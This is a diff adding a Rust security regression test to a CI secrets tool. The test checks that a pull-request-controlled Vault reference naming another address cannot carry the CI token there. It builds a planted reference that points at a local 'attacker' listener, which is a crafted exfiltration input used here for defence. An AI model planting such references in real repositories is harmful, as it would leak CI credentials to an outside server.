@@ -241,3 +241,60 @@ async fn a_server_stopped_mid_run_fails_the_run_and_nothing_is_written() -> Resu
     assert!(!ci.file("out.env").exists());
     Ok(())
 }
+
+/// Finding 8: a reference in a values file (which a pull request can change) names another
+/// Vault address. The CI's token goes nowhere: the reference is refused before any connection,
+/// with the flag that would allow it, and nothing is printed. Plain http off loopback is refused
+/// for the configured address too.
+#[tokio::test]
+async fn a_reference_cannot_send_the_ci_token_to_another_address() -> Result<()> {
+    use std::io::Read as _;
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicUsize, Ordering};
+
+    let env = testenv!();
+    let mut ci = Ci::new(env);
+    let v2 = vault_kv2(env, &[("k", "v")]).await?;
+    // The attacker's server: counts connections, reads what arrives.
+    let trap = TcpListener::bind("127.0.0.1:0")?;
+    let trap_address = format!("http://{}", trap.local_addr()?);
+    let heard = Arc::new(AtomicUsize::new(0));
+    let counter = Arc::clone(&heard);
+    std::thread::spawn(move || {
+        for stream in trap.incoming().flatten() {
+            counter.fetch_add(1, Ordering::SeqCst);
+            let mut stream = stream;
+            let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
+            let _ = stream.read(&mut [0; 4096]);
+        }
+    });
+    let planted = format!("ref+vault://{v2}?address={trap_address}#/k");
+    let run = ci.seal(&["get", &planted]);
+    run.fails(2, "--allow-reference-address");
+    assert!(
+        !run.stderr.contains(env.var("VAULT_TOKEN")),
+        "the token is in stderr"
+    );
+    assert_eq!(heard.load(Ordering::SeqCst), 0, "the trap was reached");
+    // The same reference naming the configured address works.
+    let same = format!("ref+vault://{v2}?address={}#/k", env.var("VAULT_ADDR"));
+    assert_eq!(ci.seal(&["get", &same]).ok(), "v\n");
+    // Allowed on purpose, it goes there (and so the trap hears it).
+    let run = ci.seal(&[
+        "get",
+        "--allow-reference-address",
+        "--timeout",
+        "2s",
+        &planted,
+    ]);
+    assert_ne!(run.status, 0);
+    assert!(
+        heard.load(Ordering::SeqCst) > 0,
+        "the allowed address was not tried"
+    );
+    // Plain http to a host that is not loopback: refused even as the configured address.
+    ci.set("VAULT_ADDR", "http://vault.example.invalid:8200");
+    ci.seal(&["get", &format!("ref+vault://{v2}#/k")])
+        .fails(2, "--allow-http-vault");
+    Ok(())
+}
